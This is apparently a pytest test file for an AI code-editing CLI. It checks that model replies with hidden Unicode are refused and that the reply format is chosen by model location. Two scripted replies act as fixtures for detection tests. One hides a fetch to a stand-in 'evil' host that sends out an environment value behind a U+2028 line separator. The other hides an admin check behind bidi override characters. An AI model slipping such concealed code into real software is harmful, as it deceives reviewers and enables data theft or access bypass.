"""Checks on what a reply would write, through the real CLI against the scripted endpoint:
characters that change how code reads, names nothing defines, and the reply format chosen
for long definitions."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.support.cli import run_blitzls
from tests.support.scripted_model import Reply, ScriptedModelServer


def blitzls(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return run_blitzls(env, *args, timeout=120)


def prompt_of(model_server: ScriptedModelServer, index: int) -> str:
    """The messages of the ``index``-th chat request, one after the other."""
    messages = model_server.chat_requests[index].body["messages"]
    return "\n".join(str(message["content"]) for message in messages)


# --------------------------------------------------------------------------- invisible text


def test_a_line_separator_that_would_run_a_comment_as_code_is_refused(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "app.js"
    source = "function total(items) {\n  // add up the items — ✓ 😀\n  return 0;\n}\n"
    path.write_text(source, encoding="utf-8")
    reply = (
        "```js\n  // harmless\u2028fetch('http://evil/' + process.env.HOME);\n"
        "  let t = 0;\n  for (const i of items) t += i;\n```\n"
    )
    model_server.enqueue(Reply(content=reply), Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "2", "--write")
    assert done.returncode == 10, done.stderr
    assert "U+2028 LINE SEPARATOR (line 2)" in done.stderr
    assert path.read_bytes() == source.encode()
    assert len(model_server.chat_requests) == 1  # no repair round for unsafe text


def test_a_bidi_override_in_a_comment_is_refused(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "access.py"
    source = (
        "def is_admin(user):\n"
        '    """Whether the user — ünïcödé 😀 — may administer."""\n'
        "    # check the role\n"
        "    return False\n"
    )
    path.write_text(source, encoding="utf-8")
    reply = (
        "```python\n"
        "    # check the role \u202e } \u2066 if user.admin: return True \u2069 \u2066\n"
        '    if user.role == "admin":\n'
        "        return True\n"
        "```\n"
    )
    model_server.enqueue(Reply(content=reply))
    done = blitzls(server_env, "run", "pseudocode", str(path), "--lines", "3", "--write")
    assert done.returncode == 10, done.stderr
    assert "U+202E RIGHT-TO-LEFT OVERRIDE (line 3)" in done.stderr
    assert path.read_bytes() == source.encode()


# --------------------------------------------------------------------------- reply format

HOSTED_URL = "http://api.example.test/v1"  # answered by the scripted endpoint as a proxy


def hosted_env(server_env: dict[str, str], model_server: ScriptedModelServer) -> dict[str, str]:
    """An endpoint that is not on this machine (so blitzls treats the model as hosted),
    reached through the scripted endpoint acting as the HTTP proxy."""
    proxy = f"http://127.0.0.1:{model_server.port}"
    env = {k: v for k, v in server_env.items() if k.lower() not in ("no_proxy", "all_proxy")}
    return {**env, "BLITZLS_BASE_URL": HOSTED_URL, "HTTP_PROXY": proxy, "http_proxy": proxy}


def long_function(lines: int, instruction_at: int | None = None) -> str:
    """A module with one function of ``lines`` lines (non-ASCII inside)."""
    body = [f"    out.append(rows[{i}] * {i})  # Zeile {i} — ✓\n" for i in range(lines - 4)]
    if instruction_at is not None:
        body.insert(instruction_at, "    # ai! double the first row\n")
        body.pop()
    return (
        "def report(rows):\n"
        '    """Summarise the rows — naïve 😀."""\n'
        "    out = []\n" + "".join(body) + "    return out\n"
    )


SEARCH_REPLACE = (
    "<<<<<<< SEARCH\n"
    "    out.append(rows[0] * 0)  # Zeile 0 — ✓\n"
    "=======\n"
    "    out.append(rows[0] * 2)  # Zeile 0 — ✓\n"
    ">>>>>>> REPLACE\n"
)


@pytest.mark.parametrize(
    "how",
    [
        ("simplify", "--lines", "60"),  # a cursor inside the function
        ("fix", "--lines", "60", "--message", "rows[0] should count twice"),  # a diagnostic
        ("instruction",),  # an ai! comment
    ],
    ids=["cursor", "diagnostic", "ai!"],
)
def test_auto_asks_a_hosted_model_for_search_replace_on_a_102_line_function(
    how: tuple[str, ...],
    tmp_path: Path,
    server_env: dict[str, str],
    model_server: ScriptedModelServer,
) -> None:
    instruction = 30 if how[0] == "instruction" else None
    source = long_function(102, instruction)
    assert source.count("\n") == 102
    path = tmp_path / "report.py"
    path.write_text(source, encoding="utf-8")
    model_server.enqueue(Reply(content=SEARCH_REPLACE))
    done = blitzls(hosted_env(server_env, model_server), "run", how[0], str(path), *how[1:])
    assert done.returncode == 0, done.stderr
    (request,) = model_server.chat_requests
    assert request.headers["host"] == "api.example.test"
    assert "Reply with SEARCH/REPLACE blocks" in prompt_of(model_server, 0)
    assert "+    out.append(rows[0] * 2)  # Zeile 0 — ✓" in done.stdout


def test_auto_asks_for_a_rewrite_of_a_short_function_and_from_local_models(
    tmp_path: Path, server_env: dict[str, str], model_server: ScriptedModelServer
) -> None:
    path = tmp_path / "report.py"
    path.write_text(long_function(40), encoding="utf-8")
    rewrite = "```python\n" + long_function(40).replace("rows[0] * 0", "rows[0] * 2") + "```\n"
    model_server.enqueue(Reply(content=rewrite))
    done = blitzls(
        hosted_env(server_env, model_server), "run", "simplify", str(path), "--lines", "20"
    )
    assert done.returncode == 0, done.stderr
    assert "SEARCH/REPLACE" not in prompt_of(model_server, 0)
    path.write_text(long_function(102), encoding="utf-8")
    rewrite = "```python\n" + long_function(102).replace("rows[0] * 0", "rows[0] * 2") + "```\n"
    model_server.enqueue(Reply(content=rewrite))
    done = blitzls(server_env, "run", "simplify", str(path), "--lines", "60")  # on loopback
    assert done.returncode == 0, done.stderr
    assert "SEARCH/REPLACE" not in prompt_of(model_server, 1)
